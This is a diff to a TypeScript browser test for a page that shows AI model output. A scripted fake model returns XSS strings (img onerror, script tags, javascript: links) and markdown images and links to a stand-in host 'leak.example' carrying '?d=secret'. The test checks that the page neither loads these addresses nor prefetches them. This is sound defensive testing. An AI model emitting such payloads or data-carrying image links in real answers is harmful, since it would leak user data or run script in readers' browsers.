@@ -10,12 +10,21 @@ import { type Proving, prove } from './proving.ts';
 const SCRIPT =
   '\u202etfel <img src=x onerror=alert(1)><script>alert(2)</script> [read](javascript:alert(3)) **<b>so</b>**';
 const SHOWN = toShown(SCRIPT);
+/** Pictures and links that would carry data to a stranger's server if the page loaded them. */
+const LEAK = [
+  '![chart](https://leak.example/a.png?d=secret)',
+  '<img src="https://leak.example/b.png?d=secret">',
+  '[![c](https://leak.example/c.png)](https://leak.example/d)',
+  '[report][1] <https://leak.example/e> https://secret.leak.example/f',
+  '[1]: https://leak.example/g',
+].join('\n\n');
 const NAME = '<img src=x onerror=alert(1)>';
 
 /** Writes the hostile text wherever a model can write. */
 const HOSTILE: ModelScript = ({ body }) => {
   const last = JSON.stringify(body.messages?.at(-1)?.content ?? '');
   if (/answered|chose|"no"/i.test(last) && /question/i.test(last)) return answer(SCRIPT);
+  if (last.includes('Look at the page')) return answer(LEAK);
   if (/<result/.test(last)) return say([own('ask', { question: SCRIPT, options: [SCRIPT, 'no'] })]);
   const calls = ['hostile.say', `hostile.${NAME}`].map((operation, index) =>
     act(`t${index + 1}`, operation, { text: SCRIPT }, { reasoning: SCRIPT }),
@@ -77,6 +86,23 @@ describe('the page with hostile texts', () => {
       expect(await parts(page), room).toBe(0);
       expect(await turns(page), room).toEqual([]);
     }
+    expect(proving.wrongs).toEqual([]);
+    await page.close();
+  });
+
+  it('requests nothing of the addresses in an answer, not even their names', async () => {
+    const client = createClient({ url: proving.url, token: hanako.token });
+    const leaking = await client.start('Look at the page', { mode: 'adaptive' });
+    const page = await enter(`/runs/${leaking}`, hanako.token);
+    const links = page.locator('main a[href*="leak.example"]');
+    await links.first().waitFor();
+    for (const link of await links.all())
+      expect(await link.textContent()).toBe(await link.getAttribute('href'));
+    expect(await parts(page)).toBe(0);
+    // A browser may otherwise look up the hosts of links before they are clicked, and a host can contain data.
+    const response = await page.reload();
+    expect(response?.headers()['x-dns-prefetch-control']).toBe('off');
+    await links.first().waitFor();
     expect(proving.wrongs).toEqual([]);
     await page.close();
   });
